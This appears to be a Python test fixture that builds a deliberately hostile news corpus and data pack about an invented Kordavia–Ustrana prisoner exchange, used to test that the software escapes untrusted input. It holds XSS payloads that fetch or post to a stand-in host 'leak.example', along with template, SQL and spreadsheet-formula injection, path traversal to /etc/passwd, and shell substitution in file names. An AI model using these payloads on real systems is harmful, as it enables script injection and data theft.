"""A small corpus and a pack that nobody writes in good faith: something to run or to break in every field and every name."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import peaceledger.packs

RUNS = "window.ran=1;alert(1);fetch('https://leak.example/r')"
ELEMENTS = (
    f"<script>{RUNS}</script>",
    f'"><img src=x onerror="{RUNS}">',
    f"'><svg/onload={RUNS}//",
    f"<math><mtext><style><img src=x onerror={RUNS}></style></mtext></math>",
    f"</title></textarea></style></script><script>{RUNS}</script>",
    f'<iframe srcdoc="<script>{RUNS}</script>"></iframe><base href="//leak.example/"><form action=//leak.example><button>go',
    f'<details open ontoggle={RUNS}><a href="javascript:{RUNS}" autofocus onfocus={RUNS}>read</a>',
    "<link rel=stylesheet href=//leak.example/a.css><meta http-equiv=refresh content='0;url=https://leak.example/'>",
    "<!-- --!> <![CDATA[ ]]> <!--<script>",
)
OTHERS = (
    f"javascript:{RUNS}",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %> {{ ''.__class__ }}",
    "*/ } body { display: none; background: url(https://leak.example/c) } @import '//leak.example/d'; /*",
    '\\"},{\\"texts\\":null} \\u003c/script\\u003e \\u2028',
    "'; DROP TABLE statements; -- %s %00 %n",
    '=HYPERLINK("https://leak.example/","open") +1 @SUM(A1) -2',
    "../../../../etc/passwd C:\\con\\..\\x ~root",
    "&lt;b&gt; &amp;lt; &#x3c;script&#x3e; &nbsp;",
)
TRICKS = (
    "\u202eright to left\u202c \u2066\u2067isolated \u200b\u200c\u200d\ufeff\u00ad"
    " zero \u2028 line \u2029 \U0001f54a\ufe0f\U0001f1fa\U0001f1f3 \U00010348"
)
ARABIC = "قال المبعوث إن التبادل تم"
HUGE = "W" * 4000
ALL = " ".join((*ELEMENTS, *OTHERS, TRICKS, HUGE))
DAY = "2031-04-{:02}"


def articles() -> Iterator[dict[str, object]]:
    """Records in which the words between the tricks are news, so that they reach every page."""
    for number, evil in enumerate((*ELEMENTS, *OTHERS, TRICKS, ARABIC, HUGE), 1):
        yield {
            "id": f"{number} {evil[:200]}",
            "source": f"Gazette {evil}",
            "author": evil,
            "url": f"javascript:{RUNS}" if number % 2 else f"https://x.example/2031/04/{number}?q={evil}",
            "date": DAY.format(number) if number % 5 else evil,
            "language": evil[:20],
            "title": f"Kordavia and Ustrana exchange {number} captives each {evil}",
            "text": "\n".join(sentences(number, evil)),
            evil[:60]: evil,
        }


def sentences(number: int, evil: str) -> Iterator[str]:
    """An exchange, a denial, an offer, a meeting and quotations, each with the trick inside its passage."""
    dove = "\U0001f54a"
    yield f"Kordavia and Ustrana exchanged {number + 40} prisoners of war each on {number} April 2031, {evil}, Solmere mediated."
    yield f"“The lists {dove} were complete {evil} and we kept to them,” Solmerean Foreign Minister Teodor Ashgrove said."
    yield f"Ustranan Foreign Minister Jonas Wick denied that {number + 50} captives had come home {evil}."
    yield f"President Anton Verlaine offered a ceasefire of {number + 20} days {evil} if Ustrana withdrew from Upper Harrow."
    yield f"“{evil}” Defence Minister Runa Halvard told the {evil[:80]} agency on Monday."
    yield f"{ARABIC} {dove}{dove} Emil Karsten rejected the offer: “We do not accept the lines {evil} as they stand.”"
    yield f"Karsten and Verlaine met at Villa Aurel on {number} April 2031 {evil} and agreed on nothing."


def write_corpus(folder: Path) -> Path:
    """Write the articles as JSON lines, a page, a table and plain texts whose names are hostile, too."""
    folder.mkdir()
    rows = list(articles())
    lines = "".join(json.dumps(row, ensure_ascii=number % 2 == 0) + "\n" for number, row in enumerate(rows))
    (folder / "feed.jsonl").write_text(lines, "utf-8")
    for number, name in enumerate(
        (ELEMENTS[1], ELEMENTS[3], "{{ 7*7 }} %2e%2e %s ';--", "\u202etxt.exe \u2066a", "-rf --out $(id) `id`", "a\nb\tc")
    ):
        text = "\n".join(
            ["Ustrana and Kordavia swap captives", "By <b>nobody</b>", "April 9, 2031", *sentences(number + 60, ALL[:900])]
        )
        (folder / f"{name.replace('/', '∕')[:80]}.txt").write_text(text, "utf-8")
    (folder / "nul.txt").write_bytes(
        b"Kordavia and Ustrana\x00 exchanged 77 captives\x00 each on 3 April 2031.\x01\x1b[31m\x7f\n"
    )
    (folder / "page.html").write_text(page(), "utf-8")
    return folder


def page() -> str:
    """A web page that carries script of its own in its head and in its words."""
    shown = "&lt;script&gt;window.ran=1&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
    words = "".join(f"<p>{line.replace('<', '&lt;')}</p>" for line in sentences(90, ELEMENTS[0]))
    head = f"<title>Swap {shown}</title><meta name=author content='{shown}'><meta property='og:site_name' content='{shown}'>"
    body = f"<svg onload=alert(1)></svg><p onclick={RUNS!r}>{shown}</p>{words}<a href='javascript:alert(1)'>more</a>"
    return f"<html><head>{head}<script>{RUNS}</script></head><body><article><h1>Swap {shown}</h1>{body}</article></body></html>"


def write_pack(folder: Path) -> Path:
    """The example pack with hostile names for the conflict, a state, a person, a place, an agreement and an outlet."""
    shutil.copytree(Path(peaceledger.packs.__file__).parent / "example", folder)
    for file, old in (
        ("pack.toml", "The invented war between Kordavia and Ustrana"),
        ("states.toml", "Solmere"),
        ("actors.toml", "Jonas Wick"),
        ("places.toml", "Villa Aurel"),
        ("agreements.toml", "Lake Marrow draft"),
        ("sources.toml", "Straits Press Agency"),
    ):
        text = (folder / file).read_text("utf-8")
        assert f'name = "{old}"' in text
        evil = f"{old} </script><script>window.ran=1</script><img src=x onerror=alert(1)> {{{{ 7*7 }}}} \u202e"
        (folder / file).write_text(text.replace(f'name = "{old}"', f"name = {json.dumps(evil, ensure_ascii=False)}", 1), "utf-8")
    (folder / "pack.toml").write_text(
        (folder / "pack.toml").read_text("utf-8").replace('id = "example"', 'id = "hostile"'), "utf-8"
    )
    return folder
